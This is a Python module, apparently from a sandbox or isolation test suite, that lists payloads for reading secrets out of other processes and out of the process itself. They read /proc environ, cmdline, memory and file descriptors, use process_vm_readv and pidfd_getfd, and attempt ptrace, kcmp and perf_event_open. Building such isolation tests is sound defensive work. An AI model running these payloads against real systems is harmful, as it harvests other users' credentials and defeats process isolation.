"""Reading other processes, and what this one has inherited."""

from __future__ import annotations

from .payload import attacks

MEMORY = """
    def memory(pid, bound=256 << 20):
        found = set()
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
            for line in maps:
                span, mode = line.split()[:2]
                first, last = (int(x, 16) for x in span.split("-"))
                if "r" not in mode or "w" not in mode or last - first > bound:
                    continue
                bound -= last - first
                try:
                    mem.seek(first)
                    found.update(loot(mem.read(last - first)))
                except (OSError, OverflowError):
                    pass
        return sorted(found)
"""

OTHERS = attacks(
    "read processes",
    "leaked",
    {
        "driver-environ": "return slurp(f\"/proc/{W['driver']}/environ\")",
        "ancestors-environ": """
            return [secret for pid in ancestors() for secret in slurp(f"/proc/{pid}/environ")]
        """,
        "bystander-environ": "return slurp(f\"/proc/{W['bystander']}/environ\")",
        "bystander-thread-environ": "return slurp(f\"/proc/{W['bystander']}/task/{W['bystander']}/environ\")",
        "bystander-cmdline": "return slurp(f\"/proc/{W['bystander']}/cmdline\")",
        "bystander-fd": """
            import glob
            found = []
            for path in glob.glob(f"/proc/{W['bystander']}/fd/*"):
                if "deleted" in os.readlink(path):
                    found += slurp(path)
            return found
        """,
        "everybodys-environ": """
            found = []
            for pid in os.listdir("/proc"):
                if pid.isdigit():
                    try:
                        found += slurp(f"/proc/{pid}/environ") + slurp(f"/proc/{pid}/cmdline")
                    except OSError:
                        pass
            return found
        """,
        "everybodys-files": """
            import stat
            found = []
            for pid in {*map(str, ancestors()), str(W["bystander"])}:
                for name in os.listdir(f"/proc/{pid}/fd"):
                    path = f"/proc/{pid}/fd/{name}"
                    if stat.S_ISREG(os.stat(path).st_mode):
                        found += slurp(path)
            return found
        """,
        "bystander-memory": MEMORY + "    return memory(W['bystander'])",
        "driver-memory": MEMORY + "    return memory(W['driver'])",
        "parent-memory": MEMORY + "    return memory(os.getppid())",
        "ps": """
            import subprocess
            return loot(subprocess.run(["ps", "axeww"], capture_output=True).stdout)
        """,
        "vm-readv": """
            import ctypes
            class Part(ctypes.Structure):
                _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
            found = set()
            with open(f"/proc/{W['bystander']}/maps") as maps:
                spans = [line.split()[0].split("-") for line in maps if " rw-p " in line]
            for span in spans:
                first, last = (int(x, 16) for x in span)
                buffer = ctypes.create_string_buffer(last - first)
                here, there = Part(ctypes.addressof(buffer), last - first), Part(first, last - first)
                syscall("process_vm_readv", W["bystander"], ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
                found.update(loot(buffer.raw))
            return sorted(found)
        """,
        "pidfd-getfd": """
            pidfd = syscall("pidfd_open", W["bystander"], 0)
            found = []
            for number in range(3, 10):
                try:
                    fd = syscall("pidfd_getfd", pidfd, number, 0)
                except OSError as error:
                    if error.errno == 9:
                        continue
                    raise
                found += loot(os.pread(fd, 99, 0))
            return found
        """,
    },
)
INHERITED = attacks(
    "read processes",
    "leaked",
    {
        "own-memory": MEMORY + "    return memory('self')",
        "own-objects": """
            import gc
            return loot(" ".join(o for o in gc.get_objects() if isinstance(o, str)) + repr(
                [d for o in gc.get_objects() if isinstance(o, dict) for d in o.values() if type(d) in (str, bytes)]
            ))
        """,
        "modules": """
            return sorted({secret for module in list(sys.modules.values()) for secret in loot(repr(vars(module)))})
        """,
        "frame-globals": """
            frame, text = sys._getframe(), ""
            while frame:
                text += repr(frame.f_globals.get("__doc__")) + repr(frame.f_globals.get("SECRET"))
                frame = frame.f_back
            return loot(text)
        """,
        "test-source": """
            import inspect
            return [secret for frame in inspect.stack() for secret in slurp(frame.filename)]
        """,
        "tests-beside": """
            import glob
            paths = filter(os.path.isfile, glob.glob("**", recursive=True))
            return [secret for path in paths for secret in slurp(path)]
        """,
    },
)
CONTAINED = attacks(
    "read processes",
    "leaked",
    {
        "environment": "return loot(repr(os.environ) + repr(os.environb))",
        "own-environ": 'return slurp("/proc/self/environ")',
        "c-environ": """
            import ctypes
            lines = ctypes.POINTER(ctypes.c_char_p).in_dll(libc(), "environ")
            text, i = b"", 0
            while lines[i]:
                text, i = text + lines[i] + b" ", i + 1
            return loot(text)
        """,
        "own-cmdline": 'return slurp("/proc/self/cmdline")',
        "inherited-fds": """
            found = []
            for fd in range(3, 1024):
                try:
                    found += loot(os.pread(fd, 1 << 20, 0))
                except OSError:
                    pass
            return found
        """,
        "inherited-sockets": """
            import socket
            found = []
            for fd in range(0, 1024):
                try:
                    peer = socket.socket(fileno=os.dup(fd))
                    peer.setblocking(False)
                    found += loot(peer.recv(1 << 16, socket.MSG_PEEK))
                except OSError:
                    pass
            return found
        """,
        "shared-memory-of-the-parent": """
            with open("/proc/self/maps") as maps:
                shared = [line for line in maps if line.split()[1] == "rw-s"]
            return shared and W["done"]
        """,
        "core-dump": """
            import resource
            resource.setrlimit(resource.RLIMIT_CORE, (-1, -1))
            return W["done"]
        """,
    },
)
TOUCHED = attacks(
    "read processes",
    "reached",
    {
        "ptrace": """
            syscall("ptrace", 0x4206, W["bystander"], 0, 0)
            return W["done"]
        """,
        "ptrace-parent": """
            syscall("ptrace", 0x4206, os.getppid(), 0, 0)
            return W["done"]
        """,
        "pidfd-open": 'return syscall("pidfd_open", W["bystander"], 0) and W["done"]',
        "kcmp": """
            syscall("kcmp", os.getpid(), W["bystander"], 1, 0, 0)
            return W["done"]
        """,
        "perf": """
            import ctypes
            attr = (ctypes.c_char * 128)()
            ctypes.c_uint32.from_buffer(attr, 0).value = 1
            ctypes.c_uint32.from_buffer(attr, 4).value = 128
            ctypes.c_uint64.from_buffer(attr, 40).value = 0x60
            return syscall("perf_event_open", attr, 0, -1, -1, 0) and W["done"]
        """,
        "parent-state": 'return open(f"/proc/{os.getppid()}/stat").read() and W["done"]',
        "undumpable-undone": """
            if libc().prctl(3, 0, 0, 0, 0) == 1 or libc().prctl(4, 1, 0, 0, 0) == 0:
                return W["done"]
        """,
    },
)
PAYLOADS = (*OTHERS, *INHERITED, *CONTAINED, *TOUCHED)
